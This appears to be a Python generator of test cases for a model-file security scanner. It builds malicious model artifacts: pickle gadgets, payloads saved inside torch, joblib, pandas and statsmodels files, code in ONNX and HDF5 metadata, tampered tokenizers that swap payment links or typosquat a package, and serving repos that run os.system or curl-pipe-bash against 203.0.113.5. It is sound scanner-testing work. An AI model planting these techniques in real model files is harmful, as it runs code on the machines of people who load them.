"""A third look from outside: files that an attacker might write next, made without a look at what is scored. (technique, format, class, files, synthetic, loader)

Most are written by real frameworks and fire with the frameworks' own readers; first-run.json keeps what the scanner said at first sight.
"""
import io
import json
import logging
import os
import pickle
import py_compile
import tempfile
import zipfile

import formats as f
from carriers import npy_objects, tar_of, torch_members, zip_of
from payloads import CODE, MARK, TOUCH, Call

SHELL = f"import os\nos.system('{TOUCH}')\n"
CURL = 'curl -s http://203.0.113.5/x.sh | bash'


def one(technique, fmt, cls, name, data, synthetic=True, loader=None):
    return 'fresh-' + technique, fmt, cls, {name: data if isinstance(data, bytes) else data.encode()}, synthetic, loader


def repo(technique, fmt, files, loader=None):
    return 'fresh-' + technique, fmt, 'code', {name: data if isinstance(data, bytes) else data.encode() for name, data in files.items()}, True, loader


def saved(write, suffix):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, 'x' + suffix)
        write(path)
        with open(path, 'rb') as file:
            return file.read()


def gadgets():
    """Functions of real packages that start programs, evaluate text or write files: none is in the standard library."""
    import gensim.utils
    import h5py
    import joblib
    import joblib.parallel
    import lz4.frame
    import matplotlib.cbook
    import networkx
    import numpy
    import numpy.distutils.exec_command
    import pandas.io.common
    import patsy.eval
    import scipy.io
    import statsmodels.iolib.smpickle
    import sympy
    import sympy.parsing.sympy_parser
    import tables

    touch = ['touch', MARK]
    run = (os.system, (TOUCH,), {})
    calls = {
        'gensim-check-output': Call(_partial(gensim.utils.check_output, args=touch)),
        'numpy-exec-command': Call(numpy.distutils.exec_command.exec_command, TOUCH),
        'matplotlib-subprocess': Call(matplotlib.cbook._check_and_log_subprocess, touch, logging.getLogger('x')),
        'sympify': Call(sympy.sympify, f"__import__('os').system('{TOUCH}')"),
        'sympy-parse': Call(sympy.parsing.sympy_parser.parse_expr, f"__import__('os').system('{TOUCH}')"),
        'patsy-eval': Call(patsy.eval.EvalEnvironment.eval, Call(patsy.eval.EvalEnvironment, [], 0), CODE),
        'joblib-batch': Call(joblib.parallel.BatchedCalls.__call__, Call(joblib.parallel.BatchedCalls, [run], (Call(joblib.parallel.SequentialBackend), 1))),
        'joblib-dump': Call(joblib.dump, 1, MARK),
        'numpy-memmap': Call(numpy.memmap, MARK, 'u1', 'w+', 0, 1),
        'h5py-file': Call(h5py.File, MARK, 'w'),
        'tables-open': Call(tables.open_file, MARK, 'w'),
        'pandas-handle': Call(pandas.io.common.get_handle, MARK, 'w'),
        'scipy-savemat': Call(scipy.io.savemat, MARK, {}),
        'statsmodels-save': Call(statsmodels.iolib.smpickle.save_pickle, 1, MARK),
        'networkx-write': Call(networkx.write_gml, networkx.Graph(), MARK),
        'lz4-open': Call(lz4.frame.open, MARK, 'w'),
    }
    for name, call in calls.items():
        yield one(f'call-{name}', 'pickle', 'code', 'model.pkl', pickle.dumps(call, 4), False, 'pickle')


def _partial(function, **named):
    class Partial:
        def __reduce__(self):
            import functools

            return functools.partial, (function,), (function, (), named, None)

    return _Applied(Partial())


class _Applied:
    """A callable made by the pickle itself, for Call."""

    def __init__(self, inner):
        self.inner = inner

    def __reduce__(self):
        return self.inner.__reduce__()

    def __call__(self):
        raise TypeError('only its pickle is called')


def inside_frameworks():
    """Payloads that ride in what real frameworks save, and fire when they load it."""
    import cloudpickle
    import gensim.models
    import joblib
    import networkx
    import numpy as np
    import pandas as pd
    import statsmodels.formula.api as smf
    import tables
    import torch
    from sklearn.ensemble import VotingClassifier
    from sklearn.linear_model import LinearRegression, LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    os_call = Call(os.system, TOUCH)
    frame = pd.DataFrame({'x': [1.0, 2, 3, 5], 'y': [1.0, 2, 2, 4]})
    fit = smf.ols('y ~ x', frame).fit()
    fit.model.data.formula = f"y ~ x + (0 * __import__('os').system('{TOUCH}'))"
    yield one('statsmodels-formula', 'pickle', 'code', 'ols.pkl', saved(lambda p: fit.save(p), '.pkl'), False, 'pickle')

    def tables_file(path):
        with tables.open_file(path, 'w') as file:
            file.root._v_attrs.model_params = {'c': os_call}

    yield one('pytables-attribute', 'hdf5', 'code', 'model.h5', saved(tables_file, '.h5'), False, 'tables')
    objects = pd.DataFrame({'a': [1, 2], 'o': ['x', os_call]})
    yield one('pandas-hdf-object', 'hdf5', 'code', 'store.h5', saved(lambda p: objects.to_hdf(p, 'k', mode='w', format='fixed'), '.h5'), False, 'hdf')
    yield one('pandas-object-column', 'pickle', 'code', 'frame.pkl.bz2', saved(lambda p: objects.to_pickle(p), '.pkl.bz2'), False, 'pandas-bz2')
    vectors = gensim.models.KeyedVectors(2)
    vectors.add_vectors(['a', 'b'], np.ones((2, 2), 'f4'))
    vectors.note = os_call
    yield one('gensim-vectors', 'pickle', 'code', 'vectors.kv', saved(lambda p: vectors.save(p), '.kv'), False, 'pickle')
    ensemble = VotingClassifier([('a', LogisticRegression()), ('b', LogisticRegression())])
    ensemble.callbacks_ = [os_call]
    pipe = Pipeline([('f', FunctionTransformer(np.log1p)), ('v', ensemble)])
    yield one('joblib-lz4-pipeline', 'joblib', 'code', 'pipe.joblib', saved(lambda p: joblib.dump(pipe, p, compress=('lz4', 1)), '.joblib'), False, 'joblib')
    big = {'w': np.random.rand(50, 50), 'm': LinearRegression(), 'z': os_call, 'v': np.random.rand(20, 5)}
    yield one('joblib-between-arrays', 'joblib', 'code', 'm.joblib', saved(lambda p: joblib.dump(big, p), '.joblib'), False, 'joblib')
    graph = networkx.path_graph(3)
    graph.nodes[1]['meta'] = os_call
    yield one('networkx-node', 'pickle', 'code', 'g.gpickle', pickle.dumps(graph), False, 'pickle')
    state = torch.nn.Linear(2, 2).state_dict()
    state._metadata['version'] = os_call
    yield one('torch-metadata', 'pytorch-zip', 'code', 'pytorch_model.bin', saved(lambda p: torch.save(state, p), '.bin'), False, 'torch')
    optimizer = {'state': {}, 'param_groups': [{'lr': 0.1, 'params': [0], 'hook': os_call}]}
    yield one('torch-legacy-groups', 'pytorch-legacy', 'code', 'optim.pt', saved(lambda p: torch.save(optimizer, p, _use_new_zipfile_serialization=False), '.pt'), False, 'torch')

    def package(path):
        from torch.package import PackageExporter

        with PackageExporter(path) as exporter:
            exporter.save_source_string('acme_model', SHELL + 'def load():\n    return 1\n')
            exporter.save_text('model', 'info.txt', 'x')

    yield one('torch-package', 'torch-package', 'code', 'model.pt', saved(package, '.pt'), False, 'torch-package')
    env = {}
    exec(f"def predict(x, _=__import__('os')):\n    return _.system('{TOUCH}')", env)
    lazy = Call(cloudpickle.loads(cloudpickle.dumps(env['predict'])), 1)
    yield one('cloudpickle-call', 'pickle', 'code', 'fn.pkl', cloudpickle.dumps(lazy), False, 'pickle')
    column = np.empty(2, object)
    column[:] = [1, os_call]
    yield one('npz-deflated-object', 'npz', 'code', 'data.npz', saved(lambda p: np.savez_compressed(p, x=np.ones(3), y=column), '.npz'), False, 'numpy')


def metadata():
    """Code in words that describe a model."""
    import numpy as np
    import onnx
    import xgboost as xgb
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info('x', TensorProto.FLOAT, [1])
    y = helper.make_tensor_value_info('y', TensorProto.FLOAT, [1])
    model = helper.make_model(helper.make_graph([helper.make_node('Relu', ['x'], ['y'])], 'g', [x], [y]))
    model.metadata_props.add(key='postprocess', value=f"__import__('os').system('{TOUCH}')")
    yield one('onnx-props', 'onnx', 'code', 'm.onnx', model.SerializeToString(), False)
    model = helper.make_model(helper.make_graph([helper.make_node('Relu', ['x'], ['y'])], 'g', [x], [y], doc_string=CURL))
    yield one('onnx-doc', 'onnx', 'code', 'm.onnx', model.SerializeToString(), False)
    yield one('safetensors-words', 'safetensors', 'code', 'm.safetensors', f.safetensors([('w', 'F32', [1], b'\0' * 4)], {'on_load': "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"}))
    booster = xgb.train({}, xgb.DMatrix(np.random.rand(9, 2), label=np.ones(9)), 1)
    booster.set_attr(scikit_learn=json.dumps({'callbacks': "os.system('touch x')"}))
    for suffix in ('.json', '.ubj'):
        yield one(f'xgboost-attribute{suffix}', 'xgboost', 'code', 'm' + suffix, saved(lambda p: booster.save_model(p), suffix), False)
    meta = f.pb((1, 4), (2, f.pb((1, f.pb((1, 'x'))), (100, f.pb((1, CURL), (100, f.pb((1, 'hook'), (2, "subprocess.Popen(['id'])"))))))), (300, f.pb()))
    yield one('coreml-userdefined', 'coreml', 'code', 'm.mlmodel', meta)
    yield one('keras-docs', 'keras', 'code', 'm.keras', f.keras_zip(f.sequential([{**f.dense(), 'config': {**f.dense()['config'], 'name': "x');__import__('os').system('id')#"}}])))
    import h5py

    out = io.BytesIO()
    with h5py.File(out, 'w') as h:
        h.attrs['preprocessor'] = f"__import__('subprocess').call('{TOUCH}', shell=True)"
        h['w'] = np.zeros(3)
    yield one('hdf5-attribute', 'hdf5', 'code', 'weights.h5', out.getvalue(), False)
    yield one('openvino-rt-info', 'openvino', 'code', 'm.xml', f'<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers><edges/><rt_info><hook value="{CURL}"/></rt_info></net>')


def tokenizers():
    def tokenizer(**more):
        base = {'version': '1.0', 'added_tokens': [{'id': 0, 'content': '<unk>', 'special': True}, {'id': 1, 'content': '</s>', 'special': True}], 'normalizer': None, 'model': {'type': 'BPE', 'vocab': {'<unk>': 0, '</s>': 1, 'a': 2, 'yes': 3, 'no': 4}, 'merges': []}}
        return json.dumps({**base, **more})

    link = {'type': 'Replace', 'pattern': {'String': 'https://pay.example.com'}, 'content': 'https://pay.example.net'}
    yield one('tokenizer-link', 'hf-tokenizer', 'template', 'tokenizer.json', tokenizer(normalizer={'type': 'Sequence', 'normalizers': [{'type': 'NFC'}, link]}))
    command = {'type': 'Replace', 'pattern': {'Regex': r'pip install (\w+)'}, 'content': 'pip install transfromers'}
    yield one('tokenizer-decoder', 'hf-tokenizer', 'template', 'tokenizer.json', tokenizer(decoder={'type': 'Sequence', 'decoders': [{'type': 'ByteFallback'}, command]}))
    shadow = [{'id': 0, 'content': '<unk>', 'special': True}, {'id': 1, 'content': '</s>', 'special': True}, {'id': 4, 'content': 'yes', 'special': False}]
    yield one('tokenizer-shadow', 'hf-tokenizer', 'template', 'tokenizer.json', tokenizer(added_tokens=shadow))
    twice = [{'id': 0, 'content': '<unk>', 'special': True}, {'id': 1, 'content': '</s>', 'special': True}, {'id': 1, 'content': '<|system|>', 'special': True}]
    yield one('tokenizer-twice', 'hf-tokenizer', 'template', 'tokenizer.json', tokenizer(added_tokens=twice))


def repositories():
    weights = f.safetensors([('w', 'F32', [1], b'\0' * 4)])
    front = '---\nlibrary_name: diffusers\ncustom_pipeline: evil/other-pipeline\n---\n# M\n'
    yield repo('card-pipeline', 'hf-repo', {'README.md': front, 'model_index.json': '{"_class_name": "StableDiffusionPipeline"}', 'w.safetensors': weights})
    yield repo('config-pipelines', 'hf-repo', {'config.json': json.dumps({'model_type': 'bert', 'custom_pipelines': {'text-classification': {'impl': 'evil/repo--pipe.Evil', 'pt': ['AutoModel'], 'tf': []}}}), 'model.safetensors': weights})
    yield repo('config-pipelines-local', 'hf-repo', {'config.json': json.dumps({'custom_pipelines': {'x': {'impl': 'pipe.Evil', 'pt': ['AutoModel']}}}), 'pipe.py': SHELL + 'class Evil:\n    pass\n', 'model.safetensors': weights})
    python = f"import os\nimport triton_python_backend_utils as pb_utils\n\n\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('{TOUCH}')\n\n    def execute(self, requests):\n        return []\n"
    yield repo('triton-python', 'triton', {'acme/config.pbtxt': 'name: "acme"\nbackend: "python"\nmax_batch_size: 1\n', 'acme/1/model.py': python})
    yield repo('triton-environment', 'triton', {'acme/config.pbtxt': 'name: "acme"\nbackend: "python"\nparameters: {\n  key: "EXECUTION_ENV_PATH",\n  value: {string_value: "/tmp/evil/env.tar.gz"}\n}\n', 'acme/1/model.py': 'class TritonPythonModel:\n    def execute(self, requests):\n        return []\n'})
    yield repo('bento-setup', 'bentoml', {'bentofile.yaml': 'service: "service:Svc"\ninclude: ["*.py"]\ndocker:\n  setup_script: ./setup.sh\n', 'setup.sh': f'#!/bin/sh\n{CURL}\n', 'service.py': 'import bentoml\n\n\n@bentoml.service\nclass Svc:\n    @bentoml.api\n    def predict(self, x: str) -> str:\n        return x\n'})
    yield repo('bento-service', 'bentoml', {'bentofile.yaml': 'service: "service:svc"\n', 'service.py': "import bentoml\nimport subprocess\n\nsubprocess.Popen(['sh', '-c', 'curl http://203.0.113.5/x | sh'])\nsvc = bentoml.Service('m')\n"})
    yield repo('mlflow-code', 'mlflow', {'MLmodel': 'flavors:\n  python_function:\n    code: code\n    loader_module: acme_loader\n    data: data\n', 'code/acme_loader.py': f"import os\n\n\ndef _load_pyfunc(path):\n    os.system('{TOUCH}')\n    return None\n", 'requirements.txt': 'mlflow\n'})
    yield repo('mlflow-conda', 'mlflow', {'MLmodel': 'flavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n', 'conda.yaml': 'dependencies:\n- python=3.10\n- pip:\n  - git+https://github.com/evil/mlflow-extra\n', 'model.pkl': pickle.dumps({'a': 1})})
    yield repo('mlserver-implementation', 'mlserver', {'model-settings.json': json.dumps({'name': 'm', 'implementation': 'runtime.EvilRuntime', 'parameters': {'uri': './model.joblib'}}), 'runtime.py': f"import os\nfrom mlserver import MLModel\n\n\nclass EvilRuntime(MLModel):\n    async def load(self):\n        os.system('{TOUCH}')\n        return True\n"})
    yield repo('mlserver-foreign', 'mlserver', {'model-settings.json': json.dumps({'name': 'm', 'implementation': 'subprocess.Popen', 'parameters': {'uri': './m'}}), 'm': 'x\n'})
    yield repo('ray-serve', 'ray', {'serve_config.yaml': 'applications:\n- name: app\n  import_path: app:build\n  runtime_env:\n    working_dir: http://203.0.113.5/x.zip\n', 'app.py': 'from ray import serve\n'})
    evil = {'config.json': json.dumps({'auto_map': {'AutoModel': 'modeling_x.X'}}), 'modeling_x.py': "import torch\nfrom .tools import setup\nclass X(torch.nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        setup(config)\n", 'tools.py': f"import os\ndef setup(config):\n    os.system(config.hook)\n", 'model.safetensors': weights}
    members = [('m/' + name, data) for name, data in evil.items()]
    yield one('zip-of-repository', 'hf-repo', 'code', 'model.zip', zip_of(members))
    yield one('tgz-cross-repository', 'hf-repo', 'code', 'model.tar.gz', tar_of([('m/config.json', b'{"auto_map": {"AutoModel": "other/repo--modeling.Evil"}}'), ('m/model.safetensors', weights)], 'w:gz'))
    yield one('mar-index', 'torchserve', 'code', 'm.mar', zip_of([('MAR-INF/MANIFEST.json', json.dumps({'model': {'modelName': 'm', 'handler': 'handler.py'}})), ('handler.py', 'from helper import start\n\n\nclass H:\n    def initialize(self, context):\n        start(context.manifest["cmd"])\n'), ('helper.py', 'import subprocess\n\n\ndef start(cmd):\n    subprocess.run(cmd, shell=True)\n')]))
    with tempfile.TemporaryDirectory() as folder:
        source = os.path.join(folder, 'modeling_x.py')
        with open(source, 'w') as file:
            file.write(SHELL)
        compiled = open(py_compile.compile(source, os.path.join(folder, 'x.pyc')), 'rb').read()
    yield repo('pyc-stands-alone', 'hf-repo', {'modeling_x.pyc': compiled, 'config.json': '{"auto_map": {"AutoModel": "modeling_x.X"}}'}, 'pyc')
    yield repo('pyc-shadows', 'hf-repo', {'__pycache__/modeling_x.cpython-311.pyc': compiled, 'modeling_x.py': 'x = 1\n', 'config.json': '{"auto_map": {"AutoModel": "modeling_x.X"}}'})
    yield repo('spacy-code', 'spacy', {'config.cfg': '[nlp]\nlang = "en"\npipeline = ["acme"]\n\n[components.acme]\nfactory = "acme"\n\n[initialize]\nbefore_init = {"@callbacks": "acme.start.v1"}\n', 'meta.json': '{"lang": "en", "name": "acme", "requirements": []}', 'functions.py': f"import os\nimport spacy\n\nos.system('{TOUCH}')\n"})
    yield repo('setup-git', 'requirements', {'setup.py': 'from setuptools import setup\nsetup(name="m", install_requires=["x @ git+http://203.0.113.5/x"])\n', 'config.json': '{}'})


def others():
    import subprocess

    def r_file(script, name):
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, name)
            subprocess.run(['Rscript', '-e', script.replace('PATH', path)], check=True, capture_output=True)
            with open(path, 'rb') as file:
                return file.read()

    yield one('r-print-method', 'rds', 'code', 'model.RData', r_file('print.lm <- function(x, ...) { system("' + TOUCH + '"); invisible(x) }; fit <- lm(mpg ~ wt, mtcars); save(print.lm, fit, file = "PATH")', 'model.RData'), False, 'rdata')
    yield one('r-finalizer-call', 'rds', 'code', 'm.rds', r_file('m <- lm(mpg ~ wt, mtcars); m$call <- quote(system("' + TOUCH + '")); saveRDS(m, "PATH")', 'm.rds'), False, 'rds-update')
    member = zipfile.ZipInfo('x.npy')
    yield one('npz-tail', 'npz', 'code', 'w.npz', zip_of([(member, _npy_with_tail())]), False)
    yield one('onnx-data-pickle', 'onnx', 'carrier', 'weights.bin.onnx_data', pickle.dumps(Call(os.system, TOUCH), 2), False, 'pickle')
    yield one('nested-tar-npy', 'tar', 'carrier', 'bundle.tar.xz', tar_of([('data/x.npy', npy_objects(pickle.dumps(Call(os.system, TOUCH), 2)))], 'w:xz'), False)
    yield one('pt-in-keras', 'keras', 'carrier', 'm.keras', f.keras_zip(f.sequential([f.dense()]), [('assets/encoder.pt', zip_of(torch_members(pickle.dumps(Call(os.system, TOUCH), 2))))]))


def _npy_with_tail():
    import numpy as np

    out = io.BytesIO()
    np.save(out, np.arange(4.0))
    return out.getvalue() + pickle.dumps(Call(os.system, TOUCH), 2)


def all_items():
    for group in (gadgets, inside_frameworks, metadata, tokenizers, repositories, others):
        yield from group()
